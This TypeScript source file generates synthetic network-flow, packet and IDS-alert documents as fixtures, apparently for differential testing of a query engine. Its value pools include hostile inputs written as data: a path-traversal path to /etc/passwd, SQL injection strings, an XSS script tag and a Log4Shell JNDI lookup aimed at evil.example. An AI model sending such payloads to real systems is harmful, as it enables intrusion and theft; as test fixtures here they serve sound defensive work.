// differential: flows, packets and alerts by the tables that their index templates are made of, every field of them filled now and then.
import { DOCUMENT_FIELDS, type DocumentKind } from '../../lib/document/document-kind.ts';
import type { FieldType } from '../../lib/document/field.ts';
import type { Random } from '../../local/generate/random.ts';

type Json = Readonly<Record<string, unknown>>;
type Pool = readonly [unknown, ...unknown[]];

const ADDRESSES: Pool = [
  ...(['10.0.0.1', '10.0.0.2', '10.0.1.7', '10.255.255.255', '10.1.2.3', '192.168.0.1', '192.168.0.20'] as const),
  ...(['172.16.5.4', '8.8.8.8', '203.0.113.9', '198.51.100.77', '0.0.0.0', '255.255.255.255', '127.0.0.1'] as const),
  ...(['2001:db8::1', '2001:db8::ff', '2001:db8:1::5', 'fe80::1', '::1', '::', 'ff02::fb', '::ffff:10.0.0.9'] as const),
];
const PORTS: Pool = [22, 53, 80, 123, 443, 443, 445, 3389, 8080, 49_152, 51_515, 65_535, 0];
const LABELS: Pool = ['Normal', 'Normal', 'Port Scan', 'DDoS', 'DoS Hulk', 'SSH-Patator', 'Web Attack – XSS'];
const NAMES: Pool = [
  ...(['www.example.org', 'example.org', 'mail.example.org', 'WWW.Example.COM', 'xn--bcher-kva.example'] as const),
  ...([
    'a.very.deep.sub.domain.example.net',
    'localhost',
    'evil-site.example',
    'evil.site',
    '_dmarc.example.org',
  ] as const),
];
const PATHS: Pool = [
  ...(['/', '/index.html', '/login.php', '/login.php?user=admin', '/admin/../../etc/passwd', '/a%20b/c+d'] as const),
  ...([
    "/search?q=' OR 1=1 --",
    '/<script>alert(1)</script>',
    '/cgi-bin/test.cgi',
    '/wp-login.php',
    '/Über/uns',
  ] as const),
];
const SENTENCES: Pool = [
  'GET /index.html HTTP/1.1 Host: www.example.org',
  'POST /login.php HTTP/1.1 user=admin&password=hunter2',
  'SSH-2.0-OpenSSH_9.6p1 Debian-3',
  '220 mail.example.org ESMTP Postfix ready',
  '530 Login incorrect, access denied',
  "' OR '1'='1' -- drop table users;",
  'the quick brown fox jumps over the lazy dog',
  'the lazy dog sleeps; the quick fox jumps',
  'password password password',
  'Port scan from 10.0.0.5: 142 ports unanswered in 60 s',
  'connections every 0.5 s, each of 1,024 bytes (±3 %)',
  'it’s a "quoted" word: don’t panic!',
  'Grüße aus Köln — naïve café',
  '\u0024{jndi:ldap://evil.example/a}',
  'user@example.org wrote to admin@example.com',
];
const AGENTS: Pool = [
  'curl/8.5.0',
  'Mozilla/5.0 (X11; Linux x86_64)',
  'python-requests/2.31',
  'sqlmap/1.8#stable',
  '-',
];
const WORDS: Pool = [
  'tcp',
  'udp',
  'http',
  'dns',
  'tls',
  'S0',
  'SF',
  'REJ',
  'admin',
  'root',
  'A',
  'AAAA',
  'closed',
  'idle',
];

/** Pools for what queries are written about; a field not named here draws by its type. */
const POOLS: Readonly<Record<string, Pool>> = {
  'event.kind': ['event', 'alert'],
  'event.category': ['network', ['network', 'intrusion_detection']],
  'source.port': PORTS,
  'destination.port': [...PORTS, [22, 80, 443], [53]],
  'network.transport': ['tcp', 'tcp', 'udp', 'icmp', 'ipv6-icmp'],
  'network.protocol': ['http', 'dns', 'tls', 'ssh', 'ftp'],
  'network.type': ['ipv4', 'ipv6'],
  'network.community_id': ['1:LQU9qZlK+B5F3KDmev6m5PMibrg=', '1:d/FP5EW3wiY1vCndhwleRRKHowQ=', '1:+//=='],
  'http.request.method': ['GET', 'POST', 'HEAD', 'get'],
  'http.response.status_code': [200, 200, 301, 404, 500],
  'url.path': PATHS,
  'url.original': PATHS,
  'url.domain': NAMES,
  'dns.question.name': NAMES,
  'tls.client.server_name': NAMES,
  'user_agent.original': AGENTS,
  'related.hosts': [...NAMES, ['www.example.org', 'example.org']],
  'related.ip': [...ADDRESSES, ['10.0.0.1', '8.8.8.8'], ['2001:db8::1', '10.0.0.2']],
  'smartids.label': LABELS,
  'rule.name': LABELS,
  'smartids.score': [0, 0.25, 0.5, 0.75, 0.98, 0.9999, 1, 1e-7],
  'smartids.dump.name': ['monday.pcap', 'Tuesday 11.pcapng', 'monday-2.pcap', 'ein "Name".pcap'],
  tags: ['not-scored', ['a', 'b'], ['b', 'c'], 'timestamp-out-of-range', 'a b'],
};

/** How often a field has a value: what every document of the kind has, and what few have. */
const EVERYWHERE =
  /^(@timestamp|event\.(id|kind|category|start)|(source|destination)\.(ip|port)|network\.(transport|bytes)|smartids\.(label|score|dump\.))/;
const OFTEN =
  /^(network|smartids\.(payload|alert|packet|detection|anomaly)|message|rule|event|url|http|dns|tags|related)/;

export function networkDocuments(kind: DocumentKind, count: number, random: Random): readonly Json[] {
  return Array.from({ length: count }, (_, number) => {
    const document: Record<string, unknown> = {};
    for (const [name, { type }] of Object.entries(DOCUMENT_FIELDS[kind])) {
      const share = name === 'event.id' ? 1 : EVERYWHERE.test(name) ? 0.97 : OFTEN.test(name) ? 0.6 : 0.12;
      if (!random.chance(share)) continue;
      setMember(
        document,
        name.split('.'),
        name === 'event.id' ? eventId(kind, number) : fieldValue(name, type, random),
      );
    }
    return document;
  });
}

function eventId(kind: DocumentKind, number: number): string {
  return `6f9f62f8.0a1b2c3d.${kind.charAt(0)}${String(number).padStart(4, '0')}`;
}

function fieldValue(name: string, type: FieldType, random: Random): unknown {
  const pool = POOLS[name];
  if (pool !== undefined) return random.pick(pool);
  switch (type) {
    case 'ip':
      return random.pick(ADDRESSES);
    case 'long':
      return random.chance(0.1) ? [random.integer(0, 9), random.integer(0, 9)] : random.integer(0, 5_000);
    case 'double':
      return random.integer(-200, 20_000) / 16;
    case 'boolean':
      return random.chance(0.5);
    case 'text':
      return random.chance(0.1) ? [random.pick(SENTENCES), random.pick(SENTENCES)] : random.pick(SENTENCES);
    case 'date':
    case 'date_nanos':
      return dateOf(type, random);
    case 'stored':
      return { values: [1, 2, 3], text: 'never searched' };
    case 'keyword':
      return random.chance(0.1) ? [random.pick(WORDS), random.pick(NAMES)] : random.pick(random.pick([WORDS, NAMES]));
  }
}

/** Days around the first of November 2026, now and then on a boundary. */
function dateOf(type: 'date' | 'date_nanos', random: Random): string {
  const exact = [
    '2026-11-01T00:00:00Z',
    '2026-10-31T23:59:59.999Z',
    '2026-11-01T06:00:00Z',
    '2026-12-31T23:00:00+01:00',
  ] as const;
  if (random.chance(0.2)) return random.pick(exact);
  const ms = Date.UTC(2026, 9, 20) + random.integer(0, 30 * 86_400_000);
  const nanos = type === 'date_nanos' ? String(random.integer(0, 999_999)).padStart(6, '0') : '';
  return new Date(ms).toISOString().replace('Z', `${nanos}Z`);
}

function setMember(target: Record<string, unknown>, path: readonly string[], value: unknown): void {
  let at = target;
  for (const name of path.slice(0, -1)) {
    const known = at[name];
    if (typeof known !== 'object' || known === null) at[name] = {};
    at = at[name] as Record<string, unknown>;
  }
  const last = path.at(-1) ?? '';
  at[last] = value;
}
